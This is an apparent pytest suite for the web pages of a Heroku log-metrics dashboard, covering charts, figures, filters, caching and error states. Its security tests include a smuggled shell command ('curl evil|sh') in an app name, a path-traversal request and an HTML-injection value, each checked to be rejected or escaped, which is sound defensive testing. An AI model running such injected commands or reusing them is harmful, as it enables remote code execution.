"""The pages: the API's figures, readable without scripts, and everything escaped."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Sequence
from html import unescape
from pathlib import Path

import httpx2
import pytest

from app.judgement.verdict import Episode, Finding, Verdict
from app.storage.interface.elements import Slot
from app.storage.interface.rollups import Part
from app.storage.memory import MemoryStore
from app.storage.redis.store import connect
from app.support.quantities import time_in_words
from app.web.pages import assets
from app.web.pages.svg_charts import sparkline_path
from tests.support.lines import AT_S, frame, load, lost, memory, router
from tests.support.service import Clock, client_of, post
from tests.support.verdicts import crashed, store_verdict, verdict

MINUTE_S = int(AT_S) // 60 * 60  # the last minute judged ends here


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def store(clock: Clock) -> MemoryStore:
    return MemoryStore(clock)


@pytest.fixture
async def client(store: MemoryStore, clock: Clock) -> AsyncIterator[httpx2.AsyncClient]:
    async with client_of(store, clock) as client:
        yield client


class CountingStore(MemoryStore):
    """A store that counts how often its apps are read together, as the list of apps does."""

    reads = 0

    async def read_parts(
        self, requests: Sequence[tuple[str, Sequence[Slot]]], bytes_max: int
    ) -> list[Part]:
        self.reads += len(requests) > 1
        return await super().read_parts(requests, bytes_max)


async def page(client: httpx2.AsyncClient, path: str = "/") -> str:
    answer = await client.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")
    return answer.text


def text_of(html: str) -> str:
    """The text without markup."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", html))


async def test_before_the_first_line_the_page_says_what_to_type(
    client: httpx2.AsyncClient,
) -> None:
    text = text_of(await page(client))
    for command in (
        "dynometer simulate --history 1h",
        "heroku logs -n 1500 --source heroku -a shop | dynometer replay - --app shop",
        "heroku labs:enable log-runtime-metrics -a shop",
        "dynometer drains add shop | sh",
    ):
        assert command in text


def busy_hour() -> bytes:
    """A hundred requests, a bad code, a full dyno."""
    body = b"".join(router(AT_S + i * 0.1, service=f"{i}ms") for i in range(1, 101))
    body += router(AT_S, status="503", head='at=error code=H12 desc="x"', service="30000ms") * 20
    body += memory(AT_S, total="500.00") + load(AT_S)
    return body + frame("Error R14 (Memory quota exceeded)", at_s=AT_S)


def failing_and_full() -> Verdict:
    """The verdict of such an hour."""
    failing = Finding(
        *("failing", "degraded", MINUTE_S - 600),
        code="H12",
        value=0.17,
        count=20,
        not_reasons=("load",),
    )
    full = Finding("memory_high", "ok", MINUTE_S - 300, dynos=("web.1",), who="dyno", value=0.98)
    summary = "Failing since 09:50 UTC (10 min): 17 % of requests end with H12. Load unchanged."
    return verdict("shop", "degraded", MINUTE_S, summary, [failing, full])


async def test_an_app_is_shown_as_the_api_answers(
    client: httpx2.AsyncClient, store: MemoryStore
) -> None:
    await post(client, busy_hour())
    await store_verdict(store, failing_and_full())
    answer = await client.get(
        "/api/v1/apps/shop/query?metric=service_time_ms&stat=p50&stat=p95&stat=p99&step=range"
    )
    p50, p95, p99 = (series["values"][0] for series in answer.json()["series"])
    html = await page(client, "/apps/shop")
    text = text_of(html)
    assert re.search(rf"p50 {p50:,.0f} / \S+ p95 {p95:,.0f} / \S+ p99 {p99:,.0f} /", text)
    figures = {name: small for name, (_, small) in read_figures(html).items()}
    assert figures["p95"] == f"1 h: {time_in_words(p95)}"
    assert figures["failed"] == "1 h: 17 %"
    assert figures["memory (fullest dyno)"] == "1 h: 98 %"
    assert "▲ Degraded" in text
    for said in (await client.get("/api/v1/apps/shop/verdict")).json()["summary"].split(". "):
        assert said in text
    assert "web.1 has had little memory left since 09:55 UTC" in text
    times = "22 Nov 10:00 UTC 22 Nov 10:00 UTC"
    assert re.search(rf"H12 20 +web.1 {times} Request timeout\.", text)
    assert re.search(r"web\.1 21 \S+ 500 MB 98 % 0\.50 120 ", text)
    red = re.findall(r'<div class="bad"><dt>([^<]*)</dt>', html)
    assert red == ["failed", "memory (fullest dyno)", "Heroku errors"]
    assert re.findall(r'<tr class="named"><th scope="row"><a [^>]*>([^<]*)', html) == ["web.1"]


async def test_the_list_shows_a_row_for_each_app(
    client: httpx2.AsyncClient, store: MemoryStore, clock: Clock
) -> None:
    await post(client, router(AT_S - 120))
    await post(client, busy_hour())
    await post(client, router(AT_S - 120) + router() * 60, app="blog")
    await store_verdict(store, failing_and_full())
    clock.now_s += 90  # so that the minute of the traffic is complete
    text = " ".join(text_of(await page(client)).split())
    assert "2 apps, worst first" in text
    words = r"Failing since 09:50 UTC \(10 min\): 17 % of requests end with H12"
    assert re.search(rf"▲ Degraded shop {words} \d+ 17 % 29.8 s 98 % 2 min ago", text)
    assert re.search(r"● OK blog all normal \d+ 0 % 18 ms enable 2 min ago", text)
    assert "▲ Degraded 1 ● OK 1" in text


async def test_what_is_not_complete_is_marked_in_charts_and_their_table(
    client: httpx2.AsyncClient,
) -> None:
    await post(client, router(AT_S - 240) + router(AT_S) * 3)
    html = await page(client, "/apps/shop")
    (x,) = {
        float(x) for x in re.findall(r'd="M([0-9.]+) 0 H720 V120 [^"]*" class="incomplete"', html)
    }
    assert x == 720 * 58 / 60  # the last two of 60 minutes
    text = text_of(html)
    assert "2xx 1 / 1" in text  # the three requests of the last minute are not in the legend
    assert html.count(", not complete</th>") == 2
    assert "Hatched: not complete yet. These values are those so far; means and maxima" in text
    assert f'"complete_until": {int(AT_S) - 60}' in html
    past = f"/apps/shop?start={int(AT_S) - 3600}&end={int(AT_S) - 120}"
    assert "not complete" not in await page(client, past)


async def test_many_readers_cost_no_more_than_one(clock: Clock) -> None:
    store = CountingStore(clock)
    async with client_of(store, clock) as client:
        for app in ("shop", "blog"):
            await post(client, router(), app=app)
        await page(client)
        before = store.reads
        for _ in range(10):
            await page(client)
        assert store.reads == before
        await post(client, router(service="40ms") * 59, app="shop")
        clock.now_s += 90
        assert re.search(r"● OK shop all normal \S+ 0 % 40 ms", text_of(await page(client)))
        assert store.reads == before + 1


async def test_an_app_with_very_many_error_codes_is_listed_too(
    client: httpx2.AsyncClient, clock: Clock
) -> None:
    for first in range(0, 1_200, 60):
        codes = range(first, first + 60)
        await post(client, b"".join(router(head=f"at=error code=H{n}") for n in codes))
    clock.now_s += 90
    assert re.search(r"shop .* 18 ms", text_of(await page(client)))


async def test_the_list_is_filtered_by_name(client: httpx2.AsyncClient) -> None:
    for app in ("shop", "shop-eu", "blog"):
        await post(client, router(), app=app)
    html = await page(client, "/?app=shop*")
    assert re.findall(r'href="/apps/([^"#]+)"', html) == ["shop", "shop-eu"]
    assert "2 of 3 apps" in text_of(html)
    assert "Show all 3" in text_of(await page(client, "/?app=nothing"))


async def test_nothing_stands_out_on_a_quiet_day(client: httpx2.AsyncClient) -> None:
    minutes = [AT_S - number * 60 for number in range(10)]
    await post(client, b"".join(router(at_s) + memory(at_s) + load(at_s) for at_s in minutes))
    html = await page(client, "/apps/shop")
    assert "● OK" in text_of(html)
    assert "All normal" in text_of(html)
    assert "bad" not in re.findall(r'class="([^"]*)"', html)


async def test_figures_are_those_of_five_minutes_and_of_the_range_and_of_last_week(
    clock: Clock, client: httpx2.AsyncClient
) -> None:
    week_s = 7 * 86_400
    for minute in range(70):
        await post(client, router(AT_S - 60 * minute, service="40ms") * 50)
    clock.now_s += 600
    for minute in range(10):
        await post(client, router(AT_S + 600 - 60 * minute, service="40ms") * 50)
    clock.now_s += week_s - 600
    now_s = AT_S + week_s
    await post(client, router(now_s - 1200, service="900ms") * 120 + router(now_s))
    await post(client, router(now_s - 180, service="20ms") * 10)
    html = await page(client, "/apps/shop")
    figures = read_figures(html)
    assert figures["requests/min"] == ("10", "1 h: 65, last week: 50 +30 %")
    assert figures["p95"][0] == "20 ms"
    assert re.fullmatch(r"1 h: 9\d\d ms, last week: 40 ms 2\d ×", figures["p95"][1])
    past = await page(client, f"/apps/shop?start={now_s - 1260}&end={now_s - 1140}")
    assert read_figures(past)["requests/min"][0] == "120"
    assert "Large: the last 5 complete minutes" not in text_of(past)


def read_figures(html: str) -> dict[str, tuple[str, str]]:
    """The large and the small figures by name."""
    pattern = r"<dt>(.*?)</dt><dd>(.*?)</dd>.*?<dd class=\"before\">(.*?)</dd>"
    return {
        name: (text_of(large).strip(), text_of(small).strip())
        for name, large, small in re.findall(pattern, html, re.DOTALL)
    }


async def test_dynos_are_sorted_by_the_selected_column(client: httpx2.AsyncClient) -> None:
    await post(
        client,
        router(dyno="web.1") * 3
        + router(dyno="web.2") * 9
        + memory(dyno="web.10", total="400.00")
        + memory(dyno="web.2", total="100.00"),
    )

    async def order(sort: str) -> list[str]:
        html = await page(client, f"/apps/shop?sort={sort}")
        return re.findall(r'<th scope="row"><a [^>]*>(web\.\d+)</a></th>', html)

    assert await order("name") == ["web.1", "web.2", "web.10"]
    assert await order("requests") == ["web.2", "web.1", "web.10"]
    assert await order("memory") == ["web.10", "web.2", "web.1"]
    assert await order("nonsense") == ["web.1", "web.2", "web.10"]


async def test_the_table_of_many_dynos_is_shown_on_demand(client: httpx2.AsyncClient) -> None:
    dynos = [f"web.{number}" for number in range(1, 31)]
    await post(client, b"".join(memory(dyno=dyno) for dyno in dynos))
    html = await page(client, "/apps/shop")
    assert html.count("<span>web.") == len(dynos)
    assert "<caption>Dynos" not in html
    (address,) = re.findall(r'<a href="([^"]*)">The same as a table', html)
    html = await page(client, unescape(address))
    assert html.count('<td class="sparks">') == len(dynos)
    (by_load,) = re.findall(r'<a href="([^"]*)">load</a></th>', html)
    assert "<caption>Dynos" in await page(client, unescape(by_load))


async def test_many_changes_at_one_place_are_one_mark(client: httpx2.AsyncClient) -> None:
    releases = [
        frame(f"Release v{number} created by user x", app_name="app", procid="api")
        for number in range(100)
    ]
    await post(client, router() + b"".join(releases))
    html = await page(client, "/apps/shop?range=24h")
    text = "release v0, release v1, release v10, release v11, release v12, and 95 others"
    assert html.count(f'"text": "{text}"') == 1
    drawn_charts = html.count('class="picture"')
    assert html.count('class="mark"') == drawn_charts > 0


@pytest.mark.parametrize("name", ["1h", "6h", "24h", "7d", "30d", "90d", "nonsense"])
async def test_every_range_has_its_charts(client: httpx2.AsyncClient, name: str) -> None:
    await post(client, busy_hour())
    html = await page(client, f"/apps/shop?range={name}")
    titles = re.findall(r'<h2 id="chart-[a-z]+">(.*?)</h2>', html)
    assert [text_of(title) for title in titles] == [
        "Requests per minute, by status",
        "Failed requests % ",
        "Heroku errors, by code",
        "Response time ms ",
        "Response time distribution ms ",
        "Memory, fullest dyno MB ",
        "Load, mean and max",
        "Dynos",
    ]
    for link in re.findall(r'href="(/api/[^"]*)"', html):
        assert (await client.get(unescape(link))).status_code == 200, link


async def test_without_the_chart_library_charts_are_pictures_and_the_page_says_how_to_get_it(
    client: httpx2.AsyncClient, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    await post(client, busy_hour())
    assert "npm ci" not in await page(client, "/apps/shop")
    monkeypatch.setattr(assets, "_VENDOR", tmp_path)
    html = await page(client, "/apps/shop")
    assert "<code>npm ci</code>" in html
    assert "uPlot" not in html
    assert html.count('class="line') > 5
    assert (await client.get("/static/vendor/uPlot.min.css")).status_code == 404


async def test_only_two_files_of_the_chart_library_are_served(client: httpx2.AsyncClient) -> None:
    for name in ("uPlot.iife.min.js", "uPlot.min.css"):
        assert (await client.get(f"/static/vendor/{name}")).status_code == 200
    for name in ("uPlot.esm.js", "..%2Fassets.py", "package.json"):
        assert (await client.get(f"/static/vendor/{name}")).status_code == 404


async def test_an_invalid_time_is_reported_and_the_last_hour_shown(
    client: httpx2.AsyncClient,
) -> None:
    await post(client, busy_hour())
    html = await page(client, "/apps/shop?start=yesterday&compare=week")
    assert "Showing the last hour instead: start=yesterday is invalid. Accepted: RFC 3339" in html
    assert 'data-chart="response"' in html
    assert "?compare=week&amp;sort=memory" in html
    assert len(re.findall('data-chart="', html)) == 8


async def test_a_compared_period_is_drawn_or_reported_as_missing(
    clock: Clock, client: httpx2.AsyncClient
) -> None:
    await post(client, busy_hour())
    text = text_of(await page(client, "/apps/shop?compare=day"))
    assert "no data from yesterday at these times" in text
    clock.now_s += 86_400
    await post(client, router(AT_S + 86_400))
    text = text_of(await page(client, "/apps/shop?compare=day"))
    assert "no data from" not in text
    assert "p95, yesterday" in text


async def test_filters_apply_to_the_whole_page(client: httpx2.AsyncClient) -> None:
    await post(client, busy_hour() + router(dyno="web.2", service="5ms") * 3)
    text = text_of(await page(client, "/apps/shop?dyno=web.2"))
    assert "1 h: 5 ms" in text
    assert " 1 h: 0 %" in text
    assert "Show all of shop" in text
    text = text_of(await page(client, "/apps/shop?outcome=failed"))
    assert " 1 h: 16 %" in text


async def test_events_are_marked_in_the_charts_and_listed(client: httpx2.AsyncClient) -> None:
    release = frame("Release v212 created by user x", app_name="app", procid="api")
    await post(client, router() + release + frame("Cycling"))
    html = await page(client, "/apps/shop")
    assert "<title>release v212</title>" in html
    text = text_of(html)
    assert "2026-11-22 10:00:00 UTC release v212" in text
    assert "2026-11-22 10:00:00 UTC cycle web.1" in text


async def test_an_unknown_app_has_a_page_with_the_first_command(
    client: httpx2.AsyncClient,
) -> None:
    answer = await client.get("/apps/nobody")
    assert answer.status_code == 404
    assert "dynometer drains add nobody | sh" in answer.text
    answer = await client.get("/apps/x;curl%20evil%7Csh")
    assert answer.status_code == 404
    assert "evil" not in answer.text


async def test_the_worst_app_comes_first(client: httpx2.AsyncClient, store: MemoryStore) -> None:
    await post(client, router(), app="a-healthy-one")
    await post(client, router(status="503"), app="z-failing")
    down = verdict(
        "z-failing", "down", MINUTE_S, "Down since 09:45 UTC.", [crashed(MINUTE_S - 900)]
    )
    await store_verdict(store, down)
    html = await page(client)
    assert html.index("z-failing") < html.index("a-healthy-one")


async def test_a_problem_of_many_apps_is_a_banner_above_them(
    client: httpx2.AsyncClient, store: MemoryStore
) -> None:
    silent = Finding("silent", "silent", MINUTE_S - 300, limit=6)
    for app in ("one", "two", "three"):
        await post(client, router(), app=app)
        await store_verdict(store, verdict(app, "silent", MINUTE_S, "Silent.", [silent]))
    html = await page(client)
    assert "3 of 3 apps have been silent since 09:55 UTC" in text_of(html)
    assert html.count('class="banner"') == 1
    assert html.index('class="banner"') < html.index("<table")


async def test_review_apps_are_folded_away_and_gone_after_two_days(
    client: httpx2.AsyncClient, clock: Clock
) -> None:
    for app in ("shop", "shop-pr-12"):
        await post(client, router(), app=app)
    html = await page(client)
    assert html.index(">shop<") < html.index("<details>") < html.index(">shop-pr-12<")
    assert "1 app, worst first" in text_of(html)
    assert "shop-pr-12" in text_of(await page(client, "/?app=shop-pr*"))
    clock.now_s += 2 * 86_400
    html = await page(client)
    assert ">shop<" in html
    assert "shop-pr-12" not in html


async def test_a_page_of_the_past_is_about_that_time(
    client: httpx2.AsyncClient, store: MemoryStore, clock: Clock
) -> None:
    await post(client, router(AT_S, status="503") * 9 + router(AT_S, status="200"))
    clock.now_s += 7200
    await post(client, router(AT_S + 7200) * 5)
    text = text_of(await page(client, f"/apps/shop?start={MINUTE_S - 600}&end={MINUTE_S + 60}"))
    assert "failed 90 %" in text
    assert "From 22 Nov 09:50 to 10:01 UTC" in text
    assert " 1 h: 0 %" in text_of(await page(client, "/apps/shop"))


async def test_earlier_problems_are_listed_with_links_to_their_time(
    client: httpx2.AsyncClient, store: MemoryStore
) -> None:
    await post(client, router())
    slow = Finding("slow", "degraded", MINUTE_S - 9000, until_s=MINUTE_S - 6000, value=900.0)
    fine = verdict("shop", "ok", MINUTE_S, "All normal.")
    await store_verdict(store, fine, [Episode(slow, "Was slow from 07:30 to 08:20 UTC.")])
    html = await page(client, "/apps/shop")
    assert "Was slow from 07:30 to 08:20 UTC. 50 min" in text_of(html)
    assert f"start={MINUTE_S - 9900}&amp;end={MINUTE_S - 5100}" in html


async def test_an_app_without_runtime_metrics_shows_how_to_get_them(
    client: httpx2.AsyncClient,
) -> None:
    await post(client, router())
    assert "heroku labs:enable log-runtime-metrics -a shop" in await page(client, "/apps/shop")
    await post(client, memory())
    assert "labs:enable" not in await page(client, "/apps/shop")


async def test_an_app_whose_runtime_metrics_ended_is_dated_and_not_to_be_restarted(
    client: httpx2.AsyncClient, clock: Clock
) -> None:
    await post(client, memory())
    clock.now_s += 7200
    await post(client, router(clock.now_s))
    html = await page(client, "/apps/shop")
    assert "heroku restart" not in html
    text = " ".join(text_of(html).split())
    assert "last memory and load metrics are of 2026-11-22 10:00:00 UTC" in text
    assert "enable" not in await page(client)


async def test_the_accounting_is_gray_when_it_balances_and_red_when_lines_were_lost(
    client: httpx2.AsyncClient,
) -> None:
    await post(client, router())
    assert '<p class="ledger">Log lines: 1 received, 1 counted, 0 ignored.</p>' in await page(
        client, "/apps/shop"
    )
    assert "✓ 1 line, all accounted for" in text_of(await page(client, "/apps/shop"))
    await post(client, lost(7) + router() + b"nonsense")
    html = await page(client, "/apps/shop")
    assert '<a class="accounting bad" href="#ledger">✕ 8 of 11 lines not counted</a>' in html
    assert 'class="ledger bad"' in html
    assert "7 lost by Heroku" in html
    assert "1 unreadable (frame)" in html


async def test_pages_have_no_inline_scripts_and_load_nothing_from_other_hosts(
    client: httpx2.AsyncClient,
) -> None:
    await post(client, router())
    for path in ("/", "/apps/shop", "/docs"):
        html = (await client.get(path)).text
        scripts = re.findall(r"<script([^>]*)>", html)
        assert all(
            'src="/static/' in attributes or "application/json" in attributes
            for attributes in scripts
        )
        assert not re.search(r" on[a-z]+=", html)
        assert "style=" not in html
        assert re.findall(r'(?:src|href)="(?!/|#|data:,)([^"]*)"', html) == []
    for name in ("dynometer.css", "live.js"):
        assert (await client.get(f"/static/{name}")).status_code == 200


async def test_error_codes_are_escaped(client: httpx2.AsyncClient) -> None:
    await post(client, router(head="at=error code=<b>x</b>", status="503"))
    assert "<b>x" not in await page(client, "/apps/shop")


async def test_the_reference_shows_every_route_with_a_call_that_works() -> None:
    clock = Clock()
    settings = {"DYNOMETER_PUBLIC_URL": "https://metrics.example.com"}
    async with client_of(MemoryStore(clock), clock, **settings) as client:
        await post(client, router())
        space = {"space": "acme-space", "apps": ["shop", "blog"]}
        assert (await client.post("/api/v1/drains", json=space)).status_code == 201
        text = unescape((await client.get("/docs")).text)
        calls = re.findall(r"curl (?:-X (\w+) )?'([^']*)'(?:[^<]*? -d '([^']*)')?", text)
        assert len(calls) >= 16
        json = {"Content-Type": "application/json"}
        for method, url, body in calls:
            answer = await client.request(method or "GET", url, content=body, headers=json)
            is_success = answer.status_code < 300 or "/tokens/" in url  # that one is made up
            assert is_success, (method, url, answer.text)


async def test_when_the_store_is_unavailable_the_page_says_so() -> None:
    clock = Clock()
    store = connect("unix:///nonexistent/store.sock")
    async with client_of(store, clock) as client:
        answer = await client.get("/")
        assert answer.status_code == 503
        assert "Redis is unavailable" in answer.text
        assert (await client.get("/api/v1/apps")).status_code == 503
        metrics = (await client.get("/metrics")).text
        assert "dynometer_store_up 0.0" in metrics
        assert "heroku_" not in metrics
        assert (await client.get("/healthz")).status_code == 200


def test_a_gap_is_a_gap_in_the_line() -> None:
    assert sparkline_path([1, 1, None, 1]).count("M") == 2
    assert sparkline_path([None, None]) == ""
    assert sparkline_path([]) == ""
